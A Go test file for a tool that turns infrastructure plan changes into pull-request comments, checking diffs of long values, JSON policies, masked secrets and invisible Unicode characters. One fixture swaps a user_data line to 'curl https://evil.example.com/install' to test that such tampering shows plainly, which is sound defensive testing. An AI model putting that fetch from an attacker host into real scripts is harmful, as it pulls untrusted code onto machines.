package report_test

import (
	"strings"
	"testing"

	"github.com/holdfast-dev/holdfast"
	"github.com/holdfast-dev/holdfast/report"
)

func TestAttributesOfATable(t *testing.T) {
	t.Parallel()

	long := func(middle string) string {
		return `"` + strings.Repeat("same ", 30) + middle + strings.Repeat(" tail", 30) + `"`
	}
	late := strings.Repeat("x", 2500)
	script := func(first string, last ...string) string { // its last line differs beyond what is shown of one
		return `"` + first + strings.Repeat(`\nsame`, 7) + `\n` + strings.Join(append(last[:len(last)-1:len(last)-1], late, last[len(last)-1]), "") + `"`
	}
	tests := map[string]struct {
		change holdfast.ResourceChange
		want   []string
		not    []string
	}{
		"long texts": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", long("one"), long("two"))}},
			[]string{"`…same same same one tail", "`…same same same two tail"},
			nil,
		},
		"lines": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data",
				`"#!/bin/sh\nset -e\nmkdir -p /var/lib/thing/that/is/there\ncurl https://good.example.com/install\nexit 0\n"`,
				`"#!/bin/sh\nset -e\nmkdir -p /var/lib/thing/that/is/there\ncurl https://evil.example.com/install\nexit 0\n"`)}},
			[]string{"`user_data` line 4: `\"curl https://good.example.com/install\"` → `\"curl https://evil.example.com/install\"`", "      @@ line 4 @@\n-     curl https://good.example.com/install\n+     curl https://evil.example.com/install"},
			nil,
		},
		"a long line that differs late": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", script("one", "1"), script("two", "2"))}},
			[]string{"      @@ line 1 @@\n-     one\n+     two\n", "xxx1\n+     …xxx", "xxx2\nPlan: ", "_Long values are cut around what differs."},
			nil,
		},
		"a long line behind a new one": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", script("one", "1"), script("one", `new\n`, "2"))}},
			[]string{"-     …xxx", "xxx1\n+     new\n+     …xxx", "xxx2\n"},
			nil,
		},
		"a long value that gets longer": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("token", `"`+late+`"`, `"`+late+`x"`)}},
			[]string{"xxx\" (2500 characters)\n+   token: …xxx", "xxx\" (2501 characters)\n"},
			nil,
		},
		"an escape and what it stands for": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("user_data", `"x\ny\\u200b"`, "\"x\\ny\u200b\"")}},
			[]string{"-     y\\u200b\n+     y\\u200b (sha256 "},
			nil,
		},
		"JSON": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("policy",
				`"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"some name that is long\",\"Effect\":\"Deny\",\"Action\":\"s3:*\"}]}"`,
				`"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"some name that is long\",\"Effect\":\"Allow\",\"Action\":\"s3:*\"}]}"`)}},
			[]string{"`policy` `Statement[0].Effect` in it: `\"Deny\"` → `\"Allow\"`", "    policy: in its JSON\n-     Statement[0].Effect: \"Deny\"\n+     Statement[0].Effect: \"Allow\""},
			nil,
		},
		"a secret in a text": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{{
				Path: "dsn", Before: raw(`"u:(sensitive value)@h"`), After: raw(`"u:(sensitive value)@h"`), BeforeMark: "1", AfterMark: "2",
			}}},
			[]string{
				"`dsn` `\"u:(sensitive value)@h\"` → `\"u:(sensitive value)@h\"` (a sensitive value in it changes)",
				"    dsn: \"u:(sensitive value)@h\" -> \"u:(sensitive value)@h\" (a sensitive value in it changes)\n",
			},
			nil,
		},
		"a secret next to a line that differs": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{{
				Path: "env", Before: raw(`"A=1\nB=(sensitive value)"`), After: raw(`"A=2\nB=(sensitive value)"`), BeforeMark: "1", AfterMark: "2",
			}}},
			[]string{"    env: (a sensitive value in it may change, too)\n      @@ line 1 @@\n"},
			nil,
		},
		"JSON with a key twice": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("policy",
				`"{\"Effect\":\"Deny\",\"Effect\":\"Deny\",\"Sid\":\"some name that is very very very long indeed\"}"`,
				`"{\"Effect\":\"Allow\",\"Effect\":\"Deny\",\"Sid\":\"some other name, very very very long indeed\"}"`)}},
			[]string{`{\"Effect\":\"Allow\"`},
			[]string{"in its JSON"},
		},
		"what is known later": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{
				{Path: "a", After: raw(`"(known after apply)"`), Unknown: true},
				{Path: "b", After: raw(`"(known after apply)"`), Unknown: true},
				{Path: "c", After: raw(`"(known after apply)"`), Unknown: true},
				attr("open", `false`, `true`),
			}},
			[]string{"| `open` `false` → `true`<br>3 known after apply |"},
			nil,
		},
		"what cannot be seen": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("name", `"a"`, "\"a\u200b\"")}},
			[]string{"`\"a\"` → `\"a\\u200b\"`"},
			nil,
		},
		"what looks like a space": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("name", `"a b"`, "\"a\u2800b\"")}},
			[]string{"`\"a b\"` → `\"a\\u2800b\"`"},
			nil,
		},
		"an accent of its own": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("name", "\"caf\u00e9\"", "\"cafe\u0301\"")}},
			[]string{"`\"caf\u00e9\"` → `\"cafe\\u0301\"`"},
			nil,
		},
		"spaces": {
			holdfast.ResourceChange{Attributes: []holdfast.AttributeChange{attr("name", `"a b"`, `"a  b"`)}},
			[]string{"`\"a b\"` → `\"a  b\"`"},
			nil,
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tt.change.Address, tt.change.Type, tt.change.Action = "x.y", "x", holdfast.ActionUpdate
			r := pullRequest(planned("a", &holdfast.Plan{Counts: holdfast.Counts{Update: 1}, Changes: []holdfast.ResourceChange{tt.change}}))
			comment := report.Comment(r)
			check(t, r, comment)
			for _, want := range tt.want {
				if !strings.Contains(comment, want) {
					t.Errorf("the comment lacks %q:\n%s", want, comment)
				}
			}
			for _, not := range tt.not {
				if strings.Contains(comment, not) {
					t.Errorf("the comment has %q:\n%s", not, comment)
				}
			}
		})
	}
}

// TestNaturalOrder: item[2] is before item[10].
func TestNaturalOrder(t *testing.T) {
	t.Parallel()

	p := &holdfast.Plan{Counts: holdfast.Counts{Create: 4}}
	for _, name := range []string{"b.item[10]", "b.item[2]", "b.item[1]", "a.item[11]"} {
		p.Changes = append(p.Changes, holdfast.ResourceChange{Address: name, Type: "x", Action: holdfast.ActionCreate})
	}
	if got, want := report.PlanText(*p), "+ a.item[11]\n+ b.item[1]\n+ b.item[2]\n+ b.item[10]\nPlan: 4 to create.\n"; got != want {
		t.Errorf("PlanText = %q, want %q", got, want)
	}
}
